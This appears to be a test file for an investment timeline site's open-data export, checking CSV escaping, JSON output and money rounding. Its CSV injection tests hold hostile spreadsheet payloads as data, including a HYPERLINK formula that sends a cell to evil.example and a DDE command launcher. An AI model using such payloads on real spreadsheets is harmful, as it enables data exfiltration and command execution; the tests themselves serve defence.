import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { ArticleData, CompanyData, InvestmentData, RateData } from '../../src/lib/content/schema.ts';
import { GENIE_STAKE, testArticle } from './articleFixture.ts';
import { buildInvestments, buildOwnership } from '../../src/lib/chartRecords.ts';
import {
  INVESTMENT_CSV_COLUMNS,
  csvField,
  eventsDocument,
  formatJson,
  investmentsCsv,
  investmentsDocument,
  roundMoney,
  toCsv,
} from '../../src/lib/openData.ts';
import { absoluteUrl } from '../../src/lib/urls.ts';

const url = (path: string) => absoluteUrl(path, 'https://example.org', '/timeline/');

const companies = new Map(
  (
    [
      ['kt', { name: 'KT' }],
      ['lg-uplus', { name: 'LG Uplus' }],
      ['genie-music', { name: 'Genie Music' }],
    ] as [string, CompanyData][]
  ).map(([id, data]) => [id, { id, data }]),
);
const rates: RateData[] = [
  {
    currency: 'KRW',
    perUsd: 1126.76,
    date: '2021-03-23',
    source: 'Implied by a report, "8 billion won = $7.1 million"',
  },
];
const article = (id: string, data: Partial<ArticleData>) => testArticle(id, { date: '2021-03-23', ...data });
const articles = [
  article('2021-03-23-b', {
    title: 'Second, with "quotes", commas',
    companies: ['kt'],
    tags: ['content'],
    investments: [
      {
        investor: 'kt',
        target: 'Content, drama and "IP"',
        amount: 50_000_000_000,
        currency: 'KRW',
        kind: 'commitment',
        note: 'Line one\nline two',
      },
    ],
  }),
  article('2017-03-15-a', {
    date: '2017-03-15',
    summaryKo: '요약',
    source: {
      name: 'The Korea Herald',
      url: 'https://example.com/a',
      author: 'Song Su-hyun',
      published: '2017-03-16',
      archived: 'https://web.archive.org/web/2017/https://example.com/a',
    },
    companies: ['kt', 'lg-uplus', 'genie-music'],
    investments: [GENIE_STAKE],
    ownership: {
      company: 'genie-music',
      before: [{ holder: 'kt', percent: 49.99, source: 'X' }],
      after: [
        { holder: 'kt', percent: 42.49, source: 'X' },
        { holder: 'Other shareholders', percent: 35.38, source: 'Y' },
      ],
    },
  }),
];
const investments = buildInvestments(articles, companies, rates);
const ownership = buildOwnership(articles, companies);

/** Splits RFC 4180 text back into rows, so the tests check what a CSV reader would get. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index];
    if (quoted && char === '"' && text[index + 1] === '"') {
      field += '"';
      index += 1;
    } else if (char === '"') {
      quoted = !quoted;
    } else if (!quoted && char === ',') {
      row.push(field);
      field = '';
    } else if (!quoted && char === '\r' && text[index + 1] === '\n') {
      rows.push([...row, field]);
      row = [];
      field = '';
      index += 1;
    } else {
      field += char;
    }
  }
  return rows;
}

describe('csvField and toCsv (RFC 4180)', () => {
  it('leaves plain fields alone and writes nothing for missing values', () => {
    expect(csvField('KT')).toBe('KT');
    expect(csvField(26_700_000_000)).toBe('26700000000');
    expect(csvField(false)).toBe('false');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
  });

  it('quotes fields with commas, quotes or line breaks, and doubles the quotes', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('one\ntwo')).toBe('"one\ntwo"');
    expect(csvField('one\rtwo')).toBe('"one\rtwo"');
  });

  it('ends every record, the last one too, with CRLF', () => {
    expect(
      toCsv([
        ['a', 'b'],
        [1, null],
      ]),
    ).toBe('a,b\r\n1,\r\n');
    expect(toCsv([])).toBe('');
  });
});

describe('csvField in a spreadsheet (OWASP, "CSV Injection")', () => {
  it('makes a text that starts like a formula plain text: a leading quote mark, and the field quoted', () => {
    expect(csvField('=HYPERLINK("https://evil.example/?"&A1,"Click")')).toBe(
      `"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`,
    );
    expect(csvField("+1+cmd|' /C calc'!A0")).toBe(`"'+1+cmd|' /C calc'!A0"`);
    expect(csvField('-2+3')).toBe(`"'-2+3"`);
    expect(csvField('@SUM(A1:A9)')).toBe(`"'@SUM(A1:A9)"`);
    expect(csvField('\t=1')).toBe(`"'\t=1"`);
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
  });

  it('leaves numbers and texts that only contain the characters alone', () => {
    expect(csvField(-5)).toBe('-5');
    expect(csvField('-5')).toBe('-5');
    expect(csvField('+82.5')).toBe('+82.5');
    expect(csvField('1e-3')).toBe('1e-3');
    expect(csvField('KT = LG + Meta @ 2024 - talks')).toBe('KT = LG + Meta @ 2024 - talks');
    expect(csvField(' =1')).toBe(' =1');
  });
});

describe('investmentsCsv', () => {
  const rows = parseCsv(investmentsCsv(investments, url));
  const [header, ...records] = rows;
  const column = (row: string[], name: (typeof INVESTMENT_CSV_COLUMNS)[number]) =>
    row[INVESTMENT_CSV_COLUMNS.indexOf(name)];

  it('has a header row and one row per investment, every row as wide as the header', () => {
    expect(header).toEqual([...INVESTMENT_CSV_COLUMNS]);
    expect(records).toHaveLength(investments.length);
    for (const row of records) expect(row).toHaveLength(INVESTMENT_CSV_COLUMNS.length);
  });

  it('reads back commas, quotes and line breaks in labels and notes unchanged', () => {
    const commitment = records.find((row) => column(row, 'kind') === 'commitment')!;
    expect(column(commitment, 'target')).toBe('Content, drama and "IP"');
    expect(column(commitment, 'target_slug')).toBe('');
    expect(column(commitment, 'note')).toBe('Line one\nline two');
  });

  it('gives reported figures unconverted, without a rate', () => {
    const equity = records.find((row) => column(row, 'kind') === 'equity')!;
    expect([column(equity, 'krw'), column(equity, 'krw_converted'), column(equity, 'krw_rate_per_usd')]).toEqual([
      '26700000000',
      'false',
      '',
    ]);
    expect([column(equity, 'usd'), column(equity, 'usd_converted'), column(equity, 'usd_rate_per_usd')]).toEqual([
      '23000000',
      'false',
      '',
    ]);
    expect(column(equity, 'stake_percent')).toBe('15');
    expect(column(equity, 'investor_slug')).toBe('lg-uplus');
  });

  it('marks converted figures and names the rate used', () => {
    const commitment = records.find((row) => column(row, 'kind') === 'commitment')!;
    expect(column(commitment, 'usd')).toBe(String(Math.round((50_000_000_000 / 1126.76) * 100) / 100));
    expect(column(commitment, 'usd_converted')).toBe('true');
    expect([
      column(commitment, 'usd_rate_currency'),
      column(commitment, 'usd_rate_per_usd'),
      column(commitment, 'usd_rate_date'),
    ]).toEqual(['KRW', '1126.76', '2021-03-23']);
    expect(column(commitment, 'event_url')).toBe('https://example.org/timeline/articles/2021-03-23-b/');
  });
});

describe('investmentsDocument', () => {
  const document = investmentsDocument(investments, url);

  it('lists every investment oldest first with absolute links under the base', () => {
    expect(document.investments.map((record) => record.id)).toEqual(['2017-03-15-a-1', '2021-03-23-b-1']);
    const [equity] = document.investments;
    expect(equity?.investor).toEqual({
      slug: 'lg-uplus',
      name: 'LG Uplus',
      nameKo: 'LG Uplus',
      url: 'https://example.org/timeline/companies/lg-uplus/',
    });
    expect(equity?.eventUrl).toBe('https://example.org/timeline/articles/2017-03-15-a/');
    expect(document.homePage).toBe('https://example.org/timeline/');
  });

  it('gives each figure its value, converted flag and rate, and null where there is none', () => {
    const [equity, commitment] = document.investments;
    expect(equity?.usd).toEqual({ value: 23_000_000, converted: false, rate: null });
    expect(equity?.stake).toBe(15);
    expect(commitment?.stake).toBeNull();
    expect(commitment?.usd?.converted).toBe(true);
    expect(commitment?.usd?.rate).toEqual(rates[0]);
    expect(commitment?.target).toEqual({
      slug: null,
      name: 'Content, drama and "IP"',
      nameKo: 'Content, drama and "IP"',
      url: null,
    });
  });

  it('lists each exchange rate used once', () => {
    expect(document.rates).toEqual(rates);
  });
});

describe('roundMoney', () => {
  it('rounds converted figures to the cent and leaves reported ones exact', () => {
    expect(roundMoney({ value: 44_375_022.187_4, converted: true })).toBe(44_375_022.19);
    expect(roundMoney({ value: 1.234_5, converted: false })).toBe(1.234_5);
  });
});

describe('eventsDocument', () => {
  const document = eventsDocument(articles, companies, { investments, ownership }, url);

  it('lists every article as an event, oldest first', () => {
    expect(document.events.map((event) => event.id)).toEqual(['2017-03-15-a', '2021-03-23-b']);
  });

  it('gives the source, companies and links of an event, null for what is not known', () => {
    const [first, second] = document.events;
    expect(first?.source).toEqual({
      name: 'The Korea Herald',
      url: 'https://example.com/a',
      author: 'Song Su-hyun',
      published: '2017-03-16',
      archived: 'https://web.archive.org/web/2017/https://example.com/a',
      note: null,
    });
    expect(second?.source.archived).toBeNull();
    expect(first?.summaryKo).toBe('요약');
    expect(second?.summaryKo).toBeNull();
    expect(first?.companies.map((company) => company.name)).toEqual(['KT', 'LG Uplus', 'Genie Music']);
    expect(first?.companies[0]?.url).toBe('https://example.org/timeline/companies/kt/');
    expect(first?.url).toBe('https://example.org/timeline/articles/2017-03-15-a/');
    expect(first?.timelineUrl).toBe('https://example.org/timeline/#2017-03-15-a');
    expect(second?.tags).toEqual(['content']);
  });

  it('points each event at its place on a timeline split into year pages', () => {
    const split = eventsDocument(articles, companies, { investments, ownership }, url, (id) => `years/2017/#${id}`);
    expect(split.events[0]?.timelineUrl).toBe('https://example.org/timeline/years/2017/#2017-03-15-a');
  });

  it('refers to its investments by their ids in investments.json', () => {
    expect(document.events.map((event) => event.investments)).toEqual([['2017-03-15-a-1'], ['2021-03-23-b-1']]);
  });

  it('gives who owned what before and after, where the article says', () => {
    const [first, second] = document.events;
    expect(first?.ownership?.company.name).toBe('Genie Music');
    expect(first?.ownership?.after.map((holding) => [holding.holder.slug, holding.percent])).toEqual([
      ['kt', 42.49],
      [null, 35.38],
    ]);
    expect(second?.ownership).toBeNull();
  });

  it('gives each event its corrections, oldest first, and an empty list when it has none', () => {
    const corrected = eventsDocument(
      [
        article('2021-03-23-c', {
          corrections: [
            { date: '2026-12-01', text: 'The amount is 26,748,875,000 won.', textKo: '금액을 바로잡았습니다.' },
            { date: '2026-11-02', text: 'The stake is 15%.' },
          ],
        }),
      ],
      companies,
      { investments: [], ownership: [] },
      url,
    );
    expect(corrected.events[0]?.corrections).toEqual([
      { date: '2026-11-02', text: 'The stake is 15%.', textKo: null },
      { date: '2026-12-01', text: 'The amount is 26,748,875,000 won.', textKo: '금액을 바로잡았습니다.' },
    ]);
    expect(document.events[0]?.corrections).toEqual([]);
  });
});

describe('formatJson', () => {
  it('indents and ends with a newline, and reads back the same', () => {
    const value = { a: [1, { b: null }] };
    expect(formatJson(value)).toBe('{\n  "a": [\n    1,\n    {\n      "b": null\n    }\n  ]\n}\n');
    expect(JSON.parse(formatJson(value))).toEqual(value);
  });
});

describe('the open data of any content', () => {
  /** Texts as an editor or a hostile contributor might write them, often starting like a formula. */
  const text = fc
    .tuple(fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', "'", ' ', '1', '-1', '"'), fc.string({ maxLength: 12 }))
    .map(([start, rest]) => `${start}${rest}`)
    .filter((value) => value.trim() !== '');
  const investment: fc.Arbitrary<InvestmentData> = fc.record(
    {
      investor: fc.constantFrom('kt', 'lg-uplus'),
      target: fc.oneof(text, fc.constant('genie-music')),
      amount: fc.double({ min: 1, max: 1e15, noNaN: true }),
      currency: fc.constantFrom('KRW', 'USD', 'EUR'),
      usd: fc.double({ min: 1, max: 1e13, noNaN: true }),
      kind: fc.constantFrom('equity', 'acquisition', 'commitment', 'fund'),
      note: text,
    },
    { requiredKeys: ['investor', 'target', 'amount', 'currency', 'kind'] },
  );
  const content = fc.record({
    names: fc.tuple(text, text, text),
    investments: fc.array(investment, { minLength: 1, maxLength: 4 }),
  });
  const build = ({ names, investments }: { names: [string, string, string]; investments: InvestmentData[] }) => {
    const named = new Map(
      (['kt', 'lg-uplus', 'genie-music'] as const).map((id, index) => [id, { id, data: { name: names[index]! } }]),
    );
    return buildInvestments([article('2021-03-23-x', { investments })], named, rates);
  };
  /** A spreadsheet reads a field as a number, not a formula, when it is one: digits and nothing around them. */
  const isNumber = (cell: string) => /^[+-]?\.?\d/.test(cell) && cell === cell.trim() && Number.isFinite(Number(cell));

  it('has no CSV field a spreadsheet would run as a formula, unless it is a number', () => {
    fc.assert(
      fc.property(content, (generated) => {
        for (const row of parseCsv(investmentsCsv(build(generated), url)))
          for (const cell of row) if (/^[=+\-@\t\r]/.test(cell)) expect(isNumber(cell), cell).toBe(true);
      }),
    );
  });

  it('reads every text back from the CSV as written, one that starts like a formula after a quote mark', () => {
    fc.assert(
      fc.property(content, (generated) => {
        const records = build(generated);
        const rows = parseCsv(investmentsCsv(records, url)).slice(1);
        const column = (row: string[], name: (typeof INVESTMENT_CSV_COLUMNS)[number]) =>
          row[INVESTMENT_CSV_COLUMNS.indexOf(name)] ?? '';
        // What the field should hold: the text, after a quote mark where it starts like a formula.
        const field = (text: string) => (/^[=+\-@\t\r]/.test(text) && !isNumber(text) ? `'${text}` : text);
        for (const [index, record] of records.entries()) {
          const row = rows[index]!;
          expect(column(row, 'investor')).toBe(field(record.investor.name.en));
          expect(column(row, 'target')).toBe(field(record.target.name.en));
          expect(column(row, 'note')).toBe(field(record.note ?? ''));
          expect(Number(column(row, 'amount'))).toBe(record.amount);
        }
      }),
    );
  });

  it('keeps every value exact in the JSON', () => {
    fc.assert(
      fc.property(content, (generated) => {
        const records = build(generated);
        const read = JSON.parse(formatJson(investmentsDocument(records, url))) as ReturnType<
          typeof investmentsDocument
        >;
        expect(
          read.investments.map((record) => [record.investor.name, record.target.name, record.note, record.amount]),
        ).toEqual(
          records.map((record) => [record.investor.name.en, record.target.name.en, record.note ?? null, record.amount]),
        );
        expect(read.investments.map((record) => record.usd?.value)).toEqual(
          records.map((record) =>
            record.usd?.converted ? Math.round(record.usd.value * 100) / 100 : record.usd?.value,
          ),
        );
      }),
    );
  });
});
